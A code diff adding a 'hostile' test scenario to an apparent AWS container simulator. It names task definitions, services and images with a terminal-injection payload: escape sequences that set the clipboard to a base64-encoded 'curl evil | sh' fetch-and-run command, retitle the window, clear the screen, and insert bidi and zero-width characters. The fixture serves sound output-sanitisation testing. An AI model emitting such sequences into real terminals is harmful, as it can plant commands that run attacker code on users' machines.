@@ -8,7 +8,7 @@ import {makePlatform} from '../registry/platform.js';
 import {SimAccount, type SimAccountOptions} from './account.js';
 import {installAppRunnerEngine} from './apprunner-engine.js';
 import {createDeployment, installEcsEngine} from './ecs-engine.js';
-import type {SimContainerDefinition} from './model.js';
+import type {SimContainerDefinition, SimTaskDefinition} from './model.js';
 import {publishUpstream} from './registries.js';
 import type {ScenarioName} from './scenario-names.js';
 import {addContainerInstance, createAppRunnerService, createCluster, createService, registerTaskDefinition, runStandaloneTask} from './resources.js';
@@ -184,6 +184,62 @@ export function addMissingShebang(account: SimAccount, now: number): void {
 	runStandaloneTask(account, cluster, 'report-job', 'EC2', now - 25 * minute);
 }
 
+/**
+ * What a terminal must never obey: escape sequences that set the clipboard, retitle the window,
+ * clear the screen and recolour, a C1 CSI, a backspace, a carriage return, a bidi override and a
+ * zero-width space. No slash or colon, so it survives inside ARNs and stream names.
+ */
+export const hostilePayload = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;pwned\u0007\u001b[2J\u001b[31m\u009b1m\u0008\r\u202e\u200b';
+
+/**
+ * An account whose own data is hostile: a task definition family, a container and an App Runner
+ * service named with the payload, an image reference that carries it, a config blob that says
+ * "arm 64" and an index entry "arm64/v8" with variant "v8". With the simulator's `hostile` fault,
+ * every text it writes (log lines, reasons, events, errors) carries it too.
+ */
+export function addHostile(account: SimAccount, now: number): void {
+	const payload = hostilePayload;
+	account.createRepository('evil/app', {createdAt: now - 5 * hour});
+	account.pushImage('evil/app', buildImage({platform: {os: 'linux', architecture: 'arm 64'}, format: 'docker'}), 'spaced', now - 4 * hour);
+	const odd = buildImage({platform: {os: 'linux', architecture: 'arm64/v8', variant: 'v8'}, format: 'oci'});
+	account.pushImage('evil/app', buildIndex({images: [odd], format: 'oci'}), 'slashed', now - 4 * hour);
+	account.pushImage('evil/app', grafanaUpstream(account).children[1]!, 'latest', now - 4 * hour);
+	account.createLogGroup('/ecs/evil', now - 5 * hour);
+	const cluster = createCluster(account, 'hostile');
+	const services: [string, string, string][] = [
+		['spaced', `evil${payload}`, 'spaced'],
+		['slashed', 'slashed', 'slashed'],
+		['named', 'named', 'latest'],
+	];
+	for (const [name, family, tag] of services) {
+		const definition = container(account, name === 'named' ? `app${payload}` : 'app', 'evil/app', tag, '/ecs/evil');
+		const registered = fargateTaskDefinition(
+			account,
+			name,
+			[name === 'spaced' ? {...definition, image: `${definition.image}${payload}`} : definition],
+			undefined,
+			now - 3 * hour,
+		);
+		// RegisterTaskDefinition refuses such names, as AWS does: an endpoint that lies still sends them.
+		plantFamily(account, registered, family);
+		createService(account, {cluster, name, taskDefinition: family, createdAt: now - 2 * hour});
+	}
+	createAppRunnerService(account, {
+		name: `shop${payload}`,
+		imageIdentifier: `${account.registryHost}/evil/app:latest`,
+		port: '8080',
+		createdAt: now - 50 * minute,
+	});
+}
+
+function plantFamily(account: SimAccount, definition: SimTaskDefinition, family: string): void {
+	if (definition.family === family) return;
+	account.taskDefinitions.delete(definition.family);
+	definition.family = family;
+	definition.taskDefinitionArn = account.arn('ecs', `task-definition/${family}:${definition.revision}`);
+	account.taskDefinitions.set(family, [definition]);
+}
+
 /** The reverse case: an amd64-only worker on a Graviton (arm64) EC2 cluster. */
 export function addGravitonEc2(account: SimAccount, now: number): void {
 	account.createRepository('jobs/worker', {createdAt: now - 20 * 24 * hour});
@@ -272,7 +328,7 @@ export function updateServiceTaskDefinition(account: SimAccount, serviceName: st
 	createDeployment(account, service, definition, at);
 }
 
-const stories: Record<Exclude<ScenarioName, 'demo' | 'empty' | 'large'>, (account: SimAccount, now: number) => void> = {
+const stories: Record<Exclude<ScenarioName, 'demo' | 'empty' | 'large' | 'hostile'>, (account: SimAccount, now: number) => void> = {
 	'seed-fargate': addSeedFargate,
 	'seed-apprunner': addSeedAppRunner,
 	healthy: addHealthyMultiArch,
@@ -290,6 +346,8 @@ export function buildScenario(name: ScenarioName, options: SimAccountOptions = {
 		addNoise(account, now);
 	} else if (name === 'large') {
 		addLargeAccount(account, now);
+	} else if (name === 'hostile') {
+		addHostile(account, now);
 	} else if (name !== 'empty') {
 		stories[name](account, now);
 	}
